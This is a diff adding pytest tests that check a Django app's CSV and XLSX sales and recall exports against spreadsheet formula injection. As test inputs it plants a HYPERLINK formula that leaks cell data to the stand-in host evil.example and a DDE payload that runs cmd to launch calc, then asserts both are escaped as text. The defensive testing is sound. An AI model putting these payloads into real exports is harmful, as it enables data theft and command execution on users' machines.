@@ -299,3 +299,49 @@ def test_query_count_does_not_grow_with_rows(
         SaleFactory(batch=batch)
     with django_assert_max_num_queries(len(few.captured_queries)):
         client.get(URL.format(key))
+
+
+# Issue 34: nothing executable in what offices open (OWASP CSV injection).
+FORMULA_BUYER = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+@pytest.mark.parametrize("spec", SEED_FORMS, ids=lambda spec: spec.key)
+def test_no_export_carries_a_live_formula(sales, client_for, spec):
+    Sale.objects.filter(buyer="洞口县人民政府机关食堂").update(buyer=FORMULA_BUYER)
+    client = client_for(sales.world.admin)
+    body = client.get(URL.format(spec.key)).json()
+    shows_buyer = any(FORMULA_BUYER in map(str, row) for row in body["rows"])
+
+    for row in read_csv(client.get(URL.format(spec.key), {"format": "csv"})):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+        if shows_buyer and "'" + FORMULA_BUYER in row:
+            shows_buyer = "csv"
+    assert shows_buyer in (False, "csv")  # the buyer arrives, as text
+
+    response = client.get(URL.format(spec.key), {"format": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    for cell in cells:
+        if cell.value == FORMULA_BUYER:
+            assert cell.data_type == "s" and cell.quotePrefix
+
+
+def test_recall_trace_xlsx_carries_no_live_formula(sales, client_for):
+    Sale.objects.filter(buyer="张女士").update(buyer="@SUM(1+1)*cmd|' /C calc'!A0")
+    response = client_for(sales.world.admin).get(
+        RECALL.format(sales.world.batch_a.pk), {"format": "xlsx"}
+    )
+    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
+    buyers = {
+        cell.value: cell
+        for cell in workbook["销售"]["C"]
+        if isinstance(cell.value, str) and cell.value.startswith("@")
+    }
+    cell = buyers["@SUM(1+1)*cmd|' /C calc'!A0"]
+    assert cell.data_type == "s" and cell.quotePrefix
+    for sheet in workbook.worksheets:
+        assert not [
+            c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"
+        ]
